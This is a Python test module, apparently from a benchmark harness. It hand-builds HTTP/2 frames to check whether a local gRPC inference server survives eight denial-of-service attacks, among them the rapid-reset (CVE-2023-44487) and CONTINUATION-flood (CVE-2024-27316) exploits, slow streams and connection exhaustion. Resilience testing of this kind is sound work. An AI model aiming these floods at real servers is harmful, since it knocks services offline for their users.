"""The port for gRPC, from below: HTTP/2 frames as no client's library would send them (RFC 9113)."""

from __future__ import annotations

import struct
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

import grpc
from tritonclient.grpc import service_pb2

from benchmarks.attacks.attack import Attack, dial, together
from benchmarks.harness import MODEL, Service

PORT = 18_377
SETTINGS = {"grpc_port": PORT, "body_timeout_seconds": 3, "write_timeout_seconds": 3, "stream_idle_seconds": 3}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTING, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
SECONDS = 8.0
CALLS = 40
"""More than there are places for calls by default."""


def frame(kind: int, *, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def fields(**more: str) -> bytes:
    """The headers of a call, each written out (RFC 7541, 6.2.2)."""
    named = {":method": "POST", ":scheme": "http", ":authority": "t", "te": "trailers", **more}
    named |= {"content-type": "application/grpc"}
    return b"".join(
        b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in field) for field in sorted(named.items())
    )


def path_of(method: str) -> dict[str, str]:
    return {":path": f"/inference.GRPCInferenceService/{method}"}


def hello(*, window: int = 65_535) -> bytes:
    """What a client begins with: it is ready for so many bytes of each answer."""
    return PREFACE + frame(SETTING, payload=struct.pack(">HI", 4, window))


def shots() -> bytes:
    """A request for a shot without events, with its length before it."""
    request = service_pb2.ModelInferRequest(model_name=str(MODEL["id"]))
    request.inputs.add(name="detection_events_b8", datatype="UINT8", shape=[1, 54])
    request.raw_input_contents.append(bytes(54))
    content: bytes = request.SerializeToString()
    return struct.pack(">BI", 0, len(content)) + content


def _served(method: str, request: bytes, *, seconds: float) -> bool:
    """Whether a call is answered."""
    with grpc.insecure_channel(f"127.0.0.1:{PORT}") as channel:
        call = channel.unary_unary(path_of(method)[":path"])
        try:
            return bool(call(request, timeout=seconds))
        except grpc.RpcError:
            return False


def _hold(method: str, message: bytes, *, window: int = 65_535, flags: int = 0) -> str | None:
    """Opens calls on many connections and goes no further: probes are answered, and others when their time is over."""
    with ExitStack() as held:
        for _ in range(8):
            connection = held.enter_context(dial(PORT))
            connection.sendall(hello(window=window))
            for stream in range(1, 2 * CALLS, 2):
                connection.sendall(
                    frame(HEADERS, flags=END_HEADERS, stream=stream, payload=fields(**path_of(method)))
                    + frame(DATA, flags=flags, stream=stream, payload=message)
                )
        time.sleep(1)
        if not _served("ServerLive", b"", seconds=2):
            return "ServerLive was not answered"
        end = time.monotonic() + 12
        while not _served("ModelInfer", shots()[5:], seconds=2):
            if time.monotonic() > end:
                return "no other call was answered within 12 s"
            time.sleep(0.2)
    return None


def left_streams(running: Service) -> str | None:
    """Streams that are opened, and then nothing."""
    return _hold("ModelStreamInfer", b"")


def half_messages(running: Service) -> str | None:
    """Calls whose message says that it is 4 MiB long, and then nothing."""
    return _hold("ModelInfer", struct.pack(">BI", 0, 2**22) + bytes(1000))


def unread_answers(running: Service) -> str | None:
    """Calls by clients that are ready for no byte of the answer."""
    return _hold("ModelInfer", shots(), window=0, flags=END_STREAM)


def _flood(piece: Callable[[int], bytes], start: bytes = b"") -> str | None:
    """Sends pieces, made of their numbers, over and over on 16 connections, and reads nothing."""

    def send() -> int:
        number, end = 0, time.monotonic() + SECONDS
        with suppress(OSError), dial(PORT) as connection:
            connection.sendall(hello() + start)
            while time.monotonic() < end:
                connection.sendall(b"".join(piece(number + i) for i in range(500)))
                number += 500
        return number

    together(16, send)
    return None if _served("ServerLive", b"", seconds=20) else "ServerLive was not answered"


def pings(running: Service) -> str | None:
    """Pings, whose answers nobody reads."""
    return _flood(lambda number: frame(PING, payload=bytes(8)))


def settings(running: Service) -> str | None:
    """Settings, each of which is acknowledged."""
    return _flood(lambda number: frame(SETTING, payload=struct.pack(">HI", 4, 65_535)))


def resets(running: Service) -> str | None:
    """Calls that are taken back at once (CVE-2023-44487)."""
    call = fields(**path_of("ModelInfer"))

    def piece(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(HEADERS, flags=END_HEADERS, stream=stream, payload=call) + frame(
            RST_STREAM, stream=stream, payload=struct.pack(">I", 8)
        )

    return _flood(piece)


def metadata(running: Service) -> str | None:
    """Metadata without end (CVE-2024-27316)."""
    more = frame(CONTINUATION, stream=1, payload=(b"\0\1a\x7e" + b"b" * 126) * 100)
    return _flood(lambda number: more, frame(HEADERS, stream=1, payload=fields(**path_of("ModelInfer"))))


def many_connections(running: Service) -> str | None:
    """1,500 connections that say nothing, or that they are here and no more: they are closed."""
    with ExitStack() as held:
        for number in range(1500):
            with suppress(OSError):
                connection = held.enter_context(dial(PORT))
                connection.sendall(hello() if number % 2 else b"")
        end = time.monotonic() + 40
        while not _served("ModelInfer", shots()[5:], seconds=2):
            if time.monotonic() > end:
                return "no other call was answered within 40 s"
            time.sleep(0.5)
    return None


ATTACKS = [
    Attack("gRPC: streams opened and left", left_streams, SETTINGS),
    Attack("gRPC: messages that do not come", half_messages, SETTINGS),
    Attack("gRPC: answers that nobody reads", unread_answers, SETTINGS),
    Attack("gRPC: pings", pings, SETTINGS),
    Attack("gRPC: settings", settings, SETTINGS),
    Attack("gRPC: calls taken back at once", resets, SETTINGS),
    Attack("gRPC: metadata without end", metadata, SETTINGS, growth_mib=1500),
    Attack("gRPC: 1,500 connections", many_connections, SETTINGS | {"keep_alive_seconds": 3}),
]
